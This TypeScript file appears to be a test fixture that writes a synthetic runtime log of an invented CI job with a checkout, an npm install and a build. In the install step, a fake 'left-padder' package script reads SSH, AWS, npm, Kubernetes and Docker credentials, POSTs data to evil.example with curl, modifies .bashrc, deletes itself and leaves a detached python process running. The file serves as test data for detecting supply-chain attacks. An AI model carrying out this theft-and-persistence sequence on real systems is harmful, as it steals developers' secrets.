import type { RecordKind } from "../../src/kinds/index.ts";
import { type RecordParts, walk } from "../log/log-bytes.ts";
import { LogWriter, type Running } from "./log-writer.ts";

const HOME = "/home/runner";
const WORK = `${HOME}/work/web/web`;
const EVIL = `${WORK}/node_modules/left-padder`;
const SCOPE_PID = 400;
const STEPS = {
  build: `${HOME}/work/_temp/1ee9dd1a-47b5-4a2b-bb4a-6d4ba5d6a0b3.sh`,
  install: `${HOME}/work/_temp/36b68e98-0747-4407-91da-8bf37338c403.sh`,
};
const O_WRONLY_CREAT_TRUNC = 577;
const TYPE_A = "\0\x01\0\x01";

/**
 * Writes the log of an invented job: a checkout, an npm install in which the script of a package reads credentials and
 * sends them away, and a build.
 */
export function writeAttackedLog(path: string, job: string): void {
  new AttackedLog(path, job).write();
}

class AttackedLog {
  readonly #log: LogWriter;
  #pid = 1200;

  constructor(path: string, job: string) {
    this.#log = new LogWriter(path, job);
  }

  write(): void {
    const listener = this.#snapshot(390, 1, `${HOME}/runners/bin/Runner.Listener`, [
      "Runner.Listener",
      "run",
    ]);
    const worker = this.#snapshot(SCOPE_PID, listener.pid, `${HOME}/runners/bin/Runner.Worker`, [
      "Runner.Worker",
    ]);
    const action = `${HOME}/work/_actions/actions/checkout/v4/dist/index.js`;
    this.#checkout(this.#spawn(worker, "/opt/externals/node20/bin/node", ["node", action]));
    this.#install(this.#spawn(worker, "/usr/bin/bash", ["/usr/bin/bash", "-e", STEPS.install]));
    this.#build(this.#spawn(worker, "/usr/bin/bash", ["/usr/bin/bash", "-e", STEPS.build]));
    this.#log.end();
  }

  #checkout(node: Running): void {
    const git = this.#spawn(node, "/usr/bin/git", ["git", "checkout", "--force", "refs/heads/main"]);
    this.#connect(git, [140, 82, 112, 3], 443, "github.com");
    for (let n = 0; n < 400; n++)
      this.#open(git, `${WORK}/src/part-${n % 20}/file-${n}.ts`, O_WRONLY_CREAT_TRUNC);
    this.#end(git, node);
  }

  #end(...processes: readonly Running[]): void {
    for (const process of processes) this.#log.write("process_exit", process);
  }

  #install(shell: Running): void {
    const npm = this.#spawn(shell, "/opt/node/bin/npm", ["node", "/opt/node/bin/npm", "ci"]);
    this.#connect(npm, [104, 16, 1, 34], 443, "registry.npmjs.org");
    for (let n = 0; n < 600; n++) {
      this.#open(npm, `${WORK}/node_modules/module-${n % 60}/lib/file-${n}.js`, O_WRONLY_CREAT_TRUNC);
    }
    const sh = this.#spawn(npm, "/usr/bin/sh", ["sh", "-c", "node setup.js"], EVIL);
    const setup = this.#spawn(sh, "/opt/node/bin/node", ["node", "setup.js"], EVIL);
    this.#open(setup, `${EVIL}/setup.js`, 0);
    for (const file of [
      ".npmrc",
      ".ssh/id_ed25519",
      ".aws/credentials",
      ".kube/config",
      ".docker/config.json",
      ".netrc",
    ]) {
      this.#open(setup, `${HOME}/${file}`, 0);
    }
    const curl = ["curl", "-sS", "-X", "POST", "--data-binary", "@/tmp/p.enc", "http://evil.example/u"];
    const sent = this.#spawn(setup, "/usr/bin/curl", curl, EVIL);
    this.#open(sent, "/tmp/p.enc", 0);
    this.#connect(sent, [203, 0, 113, 9], 80, "evil.example");
    this.#open(setup, `${HOME}/.bashrc`, 0o2001);
    this.#log.write("file_remove", setup, { strings: { base: walk(EVIL), path: "setup.js" } });
    this.#spawn(setup, "/usr/bin/setsid", ["setsid", "nohup", "python3", "/tmp/ld.py"], EVIL);
    // What setsid has started stays.
    this.#end(sent, setup, sh, npm, shell);
  }

  #build(shell: Running): void {
    const make = this.#spawn(shell, "/usr/bin/make", ["make", "-j2"]);
    for (let n = 0; n < 60; n++) {
      const cc = this.#spawn(make, "/usr/bin/cc", ["cc", "-O2", "-c", `file-${n}.c`]);
      for (let header = 0; header < 12; header++)
        this.#open(cc, `/usr/include/header-${(n * 7 + header) % 90}.h`, 0);
      this.#open(cc, `${WORK}/build/file-${n}.o`, O_WRONLY_CREAT_TRUNC);
      this.#log.write("process_exit", cc);
    }
    this.#end(make, shell);
  }

  #snapshot(pid: number, parentPid: number, executable: string, argv: readonly string[]): Running {
    const process = { pid, startNs: this.#log.tick() };
    this.#log.write("process_snapshot", process, {
      fixed: { parent_pid: parentPid },
      strings: { executable, argv: `${argv.join("\0")}\0` },
    });
    return process;
  }

  #spawn(parent: Running, path: string, argv: readonly string[], cwd = WORK): Running {
    const child = { pid: ++this.#pid, startNs: this.#log.tick() };
    this.#log.write("process_fork", parent, {
      fixed: { child_pid: child.pid, child_start_ns: child.startNs },
    });
    this.#log.write("process_exec", child, {
      fixed: { parent_pid: parent.pid, parent_start_ns: parent.startNs },
      strings: {
        filename: path,
        base: walk(cwd),
        cwd: walk(cwd),
        image: walk(path),
        argv: argv.map((argument) => `${argument}\0`).join(""),
      },
    });
    return child;
  }

  #open(process: Running, path: string, flags: number): void {
    this.#log.write("file_open", process, { fixed: { flags }, strings: { path: walk(path) } });
  }

  #connect(
    process: Running,
    address: readonly [number, number, number, number],
    port: number,
    name: string,
  ): void {
    const labels = name.split(".").map((label) => String.fromCharCode(label.length) + label);
    const question = `${labels.join("")}\0${TYPE_A}`;
    this.#message("domain", process, `\0\x07\x01\0\0\x01\0\0\0\0\0\0${question}`);
    const record = `\xc0\x0c${TYPE_A}\0\0\0\x3c\0\x04${String.fromCharCode(...address)}`;
    this.#message("dns_answer", process, `\0\x07\x81\x80\0\x01\0\x01\0\0\0\0${question}${record}`);
    const remote_ip = Buffer.alloc(16);
    remote_ip.set(address);
    this.#log.write("network_connect", process, {
      fixed: { remote_ip, remote_port: port, protocol: 6, family: 2 },
    });
  }

  #message(kind: RecordKind, process: Running, message: string): void {
    const parts: RecordParts = {
      fixed: { socket_cookie: this.#pid, protocol: 17, whole_length: message.length },
      strings: { message },
    };
    this.#log.write(kind, process, parts);
  }
}
